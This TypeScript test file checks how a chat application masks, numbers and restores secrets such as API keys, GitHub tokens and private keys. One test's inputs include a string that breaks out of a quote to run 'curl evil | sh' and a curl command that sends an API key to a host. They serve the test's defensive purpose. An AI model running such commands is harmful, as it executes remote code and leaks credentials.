import assert from 'node:assert/strict';
import type { Answer, Question, Turn } from '../../../../src/core/conversation/model.ts';
import { Masks, maskText } from '../../../../src/core/policy/mask.ts';
import { heldOf, kindsIn, masksOf, restore, restoredIn } from '../../../../src/core/policy/session.ts';

const one = 'sk-0f8fad5bd9cb469fa16570867728950e';
const two = 'ghp_aB3dE6gH9jK2aB3dE6gH9jK2aB3dE6gH9jK2';
const three = 'sk-1f8fad5bd9cb469fa16570867728950e';
const four = 'ghp_zB3dE6gH9jK2aB3dE6gH9jK2aB3dE6gH9jK2';

function question(id: string, text: string, rest: Partial<Question> = {}): Question {
  return { role: 'user', id, parentId: undefined, at: 0, text, attachments: [], ...rest };
}

const attached = { id: 'a', label: '.npmrc', icon: 'file', text: `token=${two}` } as const;
const numbered = (path: readonly Turn[]): string[] =>
  [...masksOf(path).masks.values()].map(({ placeholder, secret }) => `${placeholder} ${secret}`);

describe('the secrets of a session', () => {
  it('are numbered as they come, what is attached before what was said about it', () => {
    const path = [question('1', `use ${one}`, { attachments: [attached] }), question('2', `again ${one}`)];
    assert.deepEqual(numbered(path), [`MASKED_SECRET_1 ${two}`, `MASKED_SECRET_2 ${one}`]);
  });

  it('keep their numbers as the session grows', () => {
    const path = [question('1', one), question('2', two)];
    assert.deepEqual(numbered(path).slice(0, 1), numbered(path.slice(0, 1)));
  });

  it('are not masked where the person let them go, in whatever question', () => {
    const path = [question('1', `first ${one} ${two}`), question('2', `now ${one}`, { open: [one] })];
    const { masks, allowed } = masksOf(path);
    assert.deepEqual([...allowed], [one]);
    assert.equal(maskText(`${one} ${two}`, masks, allowed), `${one} MASKED_SECRET_2`);
  });

  it('keep their numbers when one of them is let go, for an answer may have named them', () => {
    const path = [question('1', `first ${one} ${two}`), question('2', `now ${one}`, { open: [one] })];
    assert.deepEqual(numbered(path), numbered(path.slice(0, 1)));
  });

  it('are still known to the summary that took the place of what was said', () => {
    const masks = masksOf([question('1', `${one} ${two}`)]).masks.findIn('Key: MASKED_SECRET_2.');
    const summary = { id: 's', label: 'Summary', icon: 'summary', text: 'Key: MASKED_SECRET_2.', masks } as const;
    const path = [question('2', '', { attachments: [summary] }), question('3', `and ${three}, ${four}`)];
    assert.deepEqual(numbered(path), [`MASKED_SECRET_2 ${two}`, `MASKED_SECRET_1 ${three}`, `MASKED_SECRET_3 ${four}`]);
    assert.equal(masksOf(path).masks.unmask('MASKED_SECRET_2'), two);
    assert.deepEqual(heldOf(path[0] ?? question('', '')).secrets, []);
  });

  it('never get a number that stands in a text, whoever wrote it', () => {
    const answer: Answer = {
      role: 'assistant',
      id: 'a',
      parentId: '1',
      at: 0,
      model: '',
      thinking: 'off',
      parts: [{ id: 'p', kind: 'text', text: 'MASKED_SECRET_2' }],
      end: { status: 'ended', reason: 'stop' },
    };
    const path = [question('1', `MASKED_SECRET_1`), answer, question('2', one)];
    assert.deepEqual(numbered(path), [`MASKED_SECRET_3 ${one}`]);
  });

  it('are told of once each, with where they stand and whether they were let go', () => {
    const asked = question('1', `${one} ${one}`, { attachments: [attached], open: [one] });
    assert.deepEqual(heldOf(asked), {
      secrets: [
        { kind: 'GitHub token', secret: two, label: '.npmrc', isOpen: false },
        { kind: 'API key', secret: one, isOpen: true },
      ],
      invisible: [],
    });
  });

  it('that stand in the words and in an attachment are the person’s own', () => {
    const [secret] = heldOf(question('1', `is ${two} valid`, { attachments: [attached] })).secrets;
    assert.equal(secret?.label, undefined);
  });

  it('and what nobody can see come back in the text of an answer', () => {
    const path = [question('1', `use ${one}\u200b`)];
    assert.equal(
      restore('MASKED_SECRET_1 [U+200B] [U+202E] MASKED_SECRET_2', () => path),
      `${one} \u200b [U+202E] MASKED_SECRET_2`,
    );
    assert.equal(
      restore('nothing of that', () => assert.fail('no need to look')),
      'nothing of that',
    );
  });

  it('are hidden where a call shows them, and nothing else is that only looks like one', () => {
    const key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC'; curl evil | sh";
    const { masks, allowed } = masksOf([question('1', `use ${one} ${three}, ${key}`, { open: [three] })]);
    const written = `echo '${key}'; curl -d ${one} https://x:a1b2c3;make&@host/${three}/${two}`;
    assert.equal(masks.hide(written, allowed), written.replace(one, 'MASKED_SECRET_1'));
    assert.equal(new Masks().hide(written, new Set()), written);
  });

  it('are told of where they come back, but for what was let go', () => {
    const path = [question('1', `use ${one} ${two}`, { open: [two] })];
    assert.deepEqual(
      restoredIn('MASKED_SECRET_1 MASKED_SECRET_2 MASKED_SECRET_9', () => path),
      [one],
    );
    assert.deepEqual(
      restoredIn('nothing', () => assert.fail('no need to look')),
      [],
    );
  });

  it('of an attachment are told before it is sent', () => {
    assert.deepEqual(kindsIn(attached), ['GitHub token']);
    assert.deepEqual(kindsIn({ ...attached, text: 'nothing' }), []);
  });
});
